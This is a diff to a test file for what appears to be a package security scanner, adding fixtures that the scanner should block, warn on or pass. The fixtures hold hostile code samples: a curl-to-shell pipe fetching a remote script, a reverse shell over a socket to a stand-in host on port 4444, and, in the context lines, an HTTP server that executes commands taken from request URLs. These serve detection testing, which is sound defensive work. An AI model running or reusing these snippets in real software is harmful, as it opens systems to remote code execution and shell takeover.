@@ -140,6 +140,17 @@ function namedRelease(program: string) {
   };
 }
 
+/** A program in a folder of the caller's, which a host says the release of. */
+function cachedEngine(program: string): string {
+  return `
+    const cp = require("child_process"), path = require("path");
+    exports.start = async (cache, system) => {
+      const answer = await (await fetch("https://files.example.test/engine")).json();
+      const folder = path.join(cache, "sample", answer.release);
+      return cp.spawn(${program}, ["--port", "0"]);
+    };`;
+}
+
 describeVerdicts("EXE-02", {
   blocks: {
     "what was in an archive that was fetched": fetchedRuntime(
@@ -214,6 +225,10 @@ describeVerdicts("EXE-02", {
   },
   warns: {
     "a program that a service names": namedRelease(`path.join(folder, answer.program)`),
+    "a program that a host names, or else a release of its own": cachedEngine(
+      `answer.program || path.join(cache, "sample", "engine")`,
+    ),
+    "an interpreter in a kept folder": cachedEngine(`path.join(folder, "node")`),
     "an interpreter in a folder that a service names": namedRelease(`path.join(folder, "node")`),
     "a command of which the program is named at a fixed place": asCommand(`
       const { spawnSync } = require("child_process");
@@ -223,6 +238,9 @@ describeVerdicts("EXE-02", {
     "a program that only the package's command starts": fetchedOrRun(""),
     "a release of its own program that a service names": namedRelease(
       `path.join(folder, "tunnel")`,
+    ),
+    "a release of it for some system, unless a setting names another": cachedEngine(
+      `process.env.SAMPLE_ENGINE || path.join(folder, "engine-" + system)`,
     ),
     "a runtime that is unpacked and asked for its version": fetchedRuntime(
       unpack,
@@ -487,6 +505,12 @@ describeVerdicts("EXE-06", {
   },
 });
 
+function fetchedScript(protocol: string): string {
+  return `
+    const { spawn } = require("child_process");
+    spawn("curl", ["${protocol}://files.example.test/setup"]).stdout.pipe(spawn("sh").stdin);`;
+}
+
 describeVerdicts("EXE-07", {
   blocks: {
     "a socket and a shell": `
@@ -509,6 +533,14 @@ describeVerdicts("EXE-07", {
       const p = x("cmd.exe");
       c.on("data", (d) => p.stdin.write(d));
       p.stdout.on("data", (d) => c.write(d));`,
+    "a script that loading fetches": fetchedScript("https"),
+    "a script that a command fetches over an open line": asCommand(fetchedScript("http")),
+    "a connection that a command opens": asCommand(`
+      const s = require("net").connect(4444, "files.example.test"), sh = require("child_process").spawn("sh");
+      s.pipe(sh.stdin); sh.stdout.pipe(s);`),
+  },
+  warns: {
+    "a script that a command fetches": asCommand(fetchedScript("https")),
   },
   passes: {
     "a terminal of the caller": `exports.attach = (socket, shell) => { const p = require("child_process").spawn(shell); socket.pipe(p.stdin); p.stdout.pipe(socket); };`,
@@ -823,6 +855,10 @@ describeVerdicts("EXE-14", {
           require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
       },
     },
+    "what it asked of others, kept beside a server": `
+      const fs = require("fs");
+      require("http").createServer((q, r) => r.end("ok")).listen(0);
+      fetch("https://files.example.test/version").then((r) => r.text()).then((text) => fs.writeFileSync("version.txt", text));`,
     "a folder of the caller's, served by what the caller mounts": `
       const fs = require("fs"), path = require("path");
       exports.preview = (settings) => (req, res) =>
